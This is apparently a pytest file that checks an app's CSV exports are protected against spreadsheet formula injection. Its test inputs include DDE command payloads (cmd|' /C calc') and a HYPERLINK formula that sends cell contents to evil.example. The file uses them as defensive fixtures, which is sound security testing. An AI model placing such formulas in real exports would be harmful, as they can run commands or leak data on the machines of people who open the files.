"""Spreadsheets run what begins like a formula: text gets an apostrophe, numbers stay numbers (ASVS 1.2.10)."""

import ast
import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner
from shapely import LineString, Point
from sqlalchemy import select, update

from app.cli import cli
from app.inspections.model import Inspection
from app.outputs import FORMULA, OUTPUTS
from app.sites.model import Site
from app.transfer import exporting
from tests.make import inspection_id

APP = Path(__file__).parents[2] / "app"
RUN = {
    "equals": "=1+1",
    "plus": "+84 263 3 822 000",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "already": "'=1+1",
    "twice": "''=1+1",
    "link": '=HYPERLINK("http://evil.example?x="&A1,"Xem")',
    "quoted": '="x", "y"\n=1',
}
PLAIN = {"word": "Vị trí thử", "inside": "dốc = 40%", "apostrophe": "'tên'", "hyphen": "–5 m", "arrow": "→ 3"}


def cells(written: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(written.decode("utf-8-sig"), newline="")))


def table(**properties: object) -> dict[str, str]:
    geometry = properties.pop("geometry", Point(108.4, 11.9))
    feature = {"type": "Feature", "id": "x", "geometry": geometry, "properties": properties}
    (row,) = cells(b"".join(OUTPUTS["csv"].write([feature])))
    return row


@pytest.mark.parametrize("text", RUN.values(), ids=RUN)
def test_text_that_would_run_gets_an_apostrophe(text):
    written = table(name=text)["name"]

    assert written == f"'{text}"
    assert not written.startswith(FORMULA)


@pytest.mark.parametrize("text", PLAIN.values(), ids=PLAIN)
def test_other_text_stays_as_it_is(text):
    assert table(name=text)["name"] == text


@pytest.mark.parametrize("number", [-5, -5.25, 0, 3, 1e-7, -108.4271953])
def test_numbers_stay_numbers(number):
    assert float(table(count=number)["count"]) == number


def test_negative_coordinates_stay_numbers():
    row = table(geometry=Point(-108.5, -11.25), name="x")

    assert (float(row["lon"]), float(row["lat"])) == (-108.5, -11.25)
    assert row["wkt"] == "POINT (-108.5 -11.25)"
    assert table(geometry=LineString([(-1, -2), (3, 4)]))["lon"] == ""


@pytest.mark.parametrize("value", [{"=1+1": "=2"}, ["=1+1"], [{"a": "=1"}]])
def test_what_is_inside_brackets_begins_with_a_bracket(value):
    assert table(x=value)["x"][0] in "[{"


def test_a_unit_that_would_run_gets_an_apostrophe_too():
    written = table(units=[{"code": "=1+1", "valid_from": None}])["units"]

    assert not written.startswith(FORMULA)


def test_csv_is_written_in_one_place():
    """A second writer would have to think of formulas again."""
    writing = {
        path.relative_to(APP.parent).as_posix()
        for path in APP.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text("utf-8")))
        if isinstance(node, ast.Attribute)
        and isinstance(node.value, ast.Name)
        and node.value.id == "csv"
        and node.attr in ("writer", "DictWriter")
    }

    assert writing == {"app/outputs.py"}


def test_every_text_of_every_export_is_safe(database, make, officer, tmp_path):
    place = make.site(name="=1+1", address="@x", location_note="-x", risk_level="high", risk_reason="+x")
    body = make.inspection_body(place, note="=cmd|' /C calc'!A0")
    assert officer.put(f"/api/inspections/{inspection_id()}", json=body).status_code == 201

    seen = set()
    for what in exporting.WHAT:
        out = tmp_path / f"{what}.csv"
        with database.read() as db:
            exporting.export(db, str(out), what=what, form="csv", scope="private")
        for row in cells(out.read_bytes()):
            for name, value in row.items():
                if value.startswith(FORMULA):
                    float(value)  # a number, or this fails
                seen.add((what, name))
    assert {("sites", "name"), ("inspections", "note"), ("measures", "note"), ("proposals", "name")} <= seen


@pytest.mark.parametrize("text", RUN.values(), ids=RUN)
def test_what_was_exported_comes_back_as_it_was(database, settings, make, monkeypatch, tmp_path, text):
    """The apostrophe that an export puts before a formula is taken away by an import; nothing changes."""
    place = make.site()
    with database.write() as db:
        db.execute(update(Site).where(Site.code == place).values(location_note=text, address=text))
    monkeypatch.setenv("TALUY_DATABASE_URL", settings.database)
    monkeypatch.setenv("TALUY_DATA_DIR", str(settings.data_dir))
    out = tmp_path / "sites.csv"
    assert CliRunner().invoke(cli, ["export", str(out)]).exit_code == 0

    done = CliRunner().invoke(cli, ["import", str(out), "--apply"])

    assert done.exit_code == 0, done.output
    with database.read() as db:
        site = db.scalar(select(Site).where(Site.code == place))
        assert (site.location_note.strip(), site.address.strip()) == (text.strip(), text.strip())
        assert db.scalar(select(Inspection.id)) is None
